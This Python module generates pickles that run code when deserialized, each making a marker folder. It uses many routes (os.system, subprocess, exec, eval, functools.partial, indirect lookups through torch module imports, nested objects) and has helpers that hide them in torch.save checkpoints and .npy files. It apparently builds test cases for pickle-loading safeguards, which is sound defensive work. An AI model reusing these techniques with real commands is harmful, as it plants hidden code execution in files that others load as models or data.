"""Pickles that make a folder in different ways when they are read, and files to hide them in."""

import argparse
import builtins
import functools
import io
import operator
import os
import pathlib
import pickle
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Calls:
    """An object that calls a function when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


def by_name(module: str, name: str, *arguments: str) -> bytes:
    """Return a pickle that calls a function by its dotted name, which may lead through a module's imports."""
    words = [module, name]
    found = b"\x80\x04" + b"".join(b"\x8c" + bytes([len(word)]) + word.encode() for word in words) + b"\x93("
    for text in arguments:
        found += b"X" + len(text).to_bytes(4, "little") + text.encode()
    return found + b"tR."


def pickles(marker: Path) -> dict[str, bytes]:
    """Return name → a pickle that makes the folder `marker`."""
    name, line = str(marker), f"__import__('os').mkdir({str(marker)!r})"
    made = {
        "os.mkdir": pickle.dumps(Calls(os.mkdir, name)),
        "protocol 0": pickle.dumps(Calls(os.mkdir, name), protocol=0),
        "protocol 5": pickle.dumps(Calls(os.mkdir, name), protocol=5),
        "os.system": pickle.dumps(Calls(os.system, f"mkdir {name}")),
        "subprocess": pickle.dumps(Calls(subprocess.check_output, ["mkdir", name])),
        "exec": pickle.dumps(Calls(builtins.exec, line)),
        "eval": pickle.dumps(Calls(builtins.eval, line)),
        "partial": pickle.dumps(Calls(functools.reduce, functools.partial(os.mkdir), [0o755], name), protocol=2),
        "methodcaller": pickle.dumps(Calls(operator.methodcaller("mkdir"), pathlib.PosixPath(name))),
        "pathlib": pickle.dumps(Calls(pathlib.Path.mkdir, pathlib.PosixPath(name))),
        "through a checkpoint's module": by_name("torch.distributed.checkpoint.filesystem", "os.mkdir", name),
        "through torch": by_name("torch.serialization", "os.mkdir", name),
        "in a list": pickle.dumps([{"args": [Calls(os.mkdir, name)]}, 1]),
        "in an object": pickle.dumps({"args": argparse_like(Calls(os.mkdir, name))}),
    }
    return made


def argparse_like(value: Any) -> Any:
    """Return a namespace like those in checkpoints, with the given value in it."""
    return argparse.Namespace(num_layers=value, iteration=4)


def in_zip(content: bytes) -> bytes:
    """Return a file of torch.save whose pickle is `content`."""
    plain, changed = io.BytesIO(), io.BytesIO()
    torch.save({"args": 1}, plain)
    with zipfile.ZipFile(plain) as before, zipfile.ZipFile(changed, "w", zipfile.ZIP_STORED) as after:
        for name in before.namelist():
            after.writestr(name, content if name.endswith("data.pkl") else before.read(name))
    return changed.getvalue()


def in_array(content: bytes) -> bytes:
    """Return a .npy file of objects whose data is `content`."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + content
